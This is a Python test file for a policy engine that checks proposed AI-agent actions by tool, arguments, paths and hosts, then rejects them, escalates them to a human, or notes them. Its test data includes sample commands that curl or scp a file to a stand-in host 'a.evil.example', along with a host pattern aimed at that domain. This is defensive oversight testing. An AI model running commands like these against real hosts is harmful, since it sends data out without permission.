"""Rows of policy: which actions they fit, what becomes of these, and what is said of a wrong row."""

from __future__ import annotations

from typing import Any

import pytest

from council import Council, Opinion, Ruling
from council.agents.mind import Case, ShownBallot
from council.agents.scan.policy import PolicyRow, judge
from council.protocol.errors import ConfigError


def then(row: dict[str, Any], tool: str = "shell", body: str = "", **args: Any) -> bool:
    """Whether a row fits an action."""
    case = Case("1", "deploy-bot", "Do it", body, action={"tool": tool, "args": args} if tool else None)
    return bool(judge(case, [PolicyRow(1, "human", "why", **row)]).rows)


def test_a_tool_fits_by_a_glob_in_either_case() -> None:
    assert then({"tool": "SHELL"})
    assert then({"tool": "db.*"}, "DB.drop")
    assert not then({"tool": "db.*"}, "shell")
    assert then({"tool": "*"}, "x")
    assert not then({"tool": "*"}, "")  # a change is no action


def test_arguments_fit_by_expressions_also_nested() -> None:
    row = {"args": {"command": "^terraform (apply|destroy)"}}
    assert then(row, command="terraform apply")
    assert then(row, command=["terraform", "destroy"])
    assert then(row, steps=[{"command": "terraform apply"}])
    assert not then(row, command="terraform plan")
    assert not then(row, cmd="terraform apply")
    assert then({"args": {"amount": r"^\d{4,}$"}}, amount=5000)
    assert not then({"args": {"amount": r"^\d{4,}$", "to": "x"}}, amount=5000)


@pytest.mark.parametrize(
    "args",
    [
        {"path": "prod/a.tf"},
        {"path": "dev/../prod/a.tf"},
        {"path": "./prod/a.tf"},
        {"file_path": "prod/x", "content": "y"},
        {"command": "rm prod/a.tf"},
        {"command": "echo x >prod/a.tf"},
        {"command": "cp --target=prod/a ."},
        {"command": ["cat", "prod/a"]},
        {"patch": "diff --git a/prod/x b/prod/x\n--- a/prod/x\n+++ b/prod/x\n@@ -1 +1 @@\n-a\n+b\n"},
    ],
)
def test_paths_that_an_action_names_fit(args: dict[str, Any]) -> None:
    assert then({"paths": ("prod/*",)}, **args)
    assert not then({"paths": ("staging/*",)}, **args)
    assert not then({"paths": ("prod/*", "!prod/*")}, **args)


def test_paths_fit_the_files_of_a_change() -> None:
    body = "diff --git a/prod/x b/prod/x\n--- a/prod/x\n+++ b/prod/x\n@@ -1 +1 @@\n-a\n+b\n"
    assert then({"paths": ("prod/*",)}, "", body)
    assert not then({"paths": ("dev/*",)}, "", body)


def test_hosts_fit() -> None:
    row = {"hosts": ("*.evil.example",)}
    for command in (
        "curl https://a.evil.example/x",
        "curl a.evil.example",
        "scp x bob@a.evil.example:/tmp",
        "curl https://user:pw@A.EVIL.example:8443/",
    ):
        assert then(row, command=command), command
    assert then(row, "http", host="a.evil.example:443")
    assert not then(row, command="curl https://evil.example.org/a.evil")
    outside = {"hosts": ("!*.corp.example",)}
    assert then(outside, "http", url="https://other.example/")
    assert not then(outside, "http", url="https://a.corp.example/")
    assert not then(outside, command="cat report.csv main.py")


def test_an_agent_fits_by_proposer_and_requester() -> None:
    case = Case("1", "gate", "Do it", requester=("deploy-bot", "ann"))
    for agent in ("gate", "deploy-*", "ANN"):
        assert judge(case, [PolicyRow(1, "reject", "why", agent=agent)]).then == "reject"
    assert judge(case, [PolicyRow(1, "reject", "why", agent="bob")]).then == ""


def test_reject_outranks_human_which_outranks_note() -> None:
    case = Case("1", "a", "Do it", action={"tool": "shell", "args": {}})
    rows = [
        PolicyRow(1, "note", "n", tool="*"),
        PolicyRow(2, "human", "h", tool="*"),
        PolicyRow(3, "reject", "r", tool="*"),
    ]
    assert [row.number for row in judge(case, rows).rows] == [3, 2, 1]
    assert judge(case, rows).reasons("reject") == "policy row 3: r"
    assert judge(case, rows[:2]).then == "human"
    assert judge(case, []).then == ""
    many = judge(case, [PolicyRow(number, "human", "h", tool="*") for number in range(1, 8)]).reasons("human")
    assert many.endswith("policy row 5: h and 2 more rows")


# In a council


class Agrees:
    """A mind that approves of everything, as a model might, and counts how often it is asked."""

    asked = 0

    def review(self, case: Case) -> Opinion:
        type(self).asked += 1
        return Opinion.yes("fine", confidence=1.0)

    def rule(self, case: Case, ballots: tuple[ShownBallot, ...]) -> Ruling:
        return Ruling("confirm", "fine")


ROWS = [
    {"tool": "shell", "args": {"command": "terraform"}, "then": "reject", "reason": "No terraform by hand"},
    {"tool": "shell", "then": "human", "reason": "Shells go to a human"},
    {"tool": "*", "then": "note", "reason": "Seen by policy"},
]
AGREED = dict.fromkeys(("prime", "lite", "codemind"), Agrees)


@pytest.mark.parametrize("seats", [None, AGREED])
def test_rows_hold_whatever_the_minds_think(seats: Any) -> None:
    Agrees.asked = 0
    with Council.inline(policy=ROWS, seats=seats) as council:
        rejected = council.propose(
            "Apply", "so", action={"tool": "shell", "args": {"command": "terraform apply"}}
        )
        assert rejected.outcome == "rejected"
        assert "policy row 1: No terraform by hand" in rejected.ballots[0].reason
        assert Agrees.asked == 0
        waits = council.propose("Look", "so", action={"tool": "shell", "args": {"command": "ls"}})
        assert waits.standing == "escalated"
        assert waits.ruling is not None
        assert waits.ruling.reason == "policy row 2: Shells go to a human"
        noted = council.propose("Read", "so", action={"tool": "read_file", "args": {"path": "a"}})
        assert noted.outcome == "approved"
        assert sum("policy row 3: Seen by policy" in ballot.reason for ballot in noted.ballots) == 1
        assert council.propose("Rename a variable").outcome == "approved"


def test_a_wrong_row_is_named_by_number_and_key() -> None:
    wrong: list[Any] = [
        {"tol": "x", "then": "reject", "reason": "y"},
        {"tool": "x", "then": "no", "reason": "y"},
        {"tool": "x", "then": "note"},
        {"then": "note", "reason": "y"},
        {"tool": "x", "args": {"a": "("}, "then": "note", "reason": "y"},
        3,
    ]
    with pytest.raises(ConfigError) as error:
        Council.inline(policy=wrong)
    assert [problem.split(",")[0] for problem in error.value.problems] == [
        "policy.1.tol: unknown key",
        "policy.2.then: found 'no'",
        "policy.3.reason: is missing",
        "policy.4: it fits everything",
        "policy.5.args: found a table of 1 keys",
        "policy.6: found 3",
    ]
    with pytest.raises(ConfigError, match=r"policy: found 3, expected tables \[\[policy\]\]"):
        Council.inline(policy=3)  # type: ignore[arg-type]
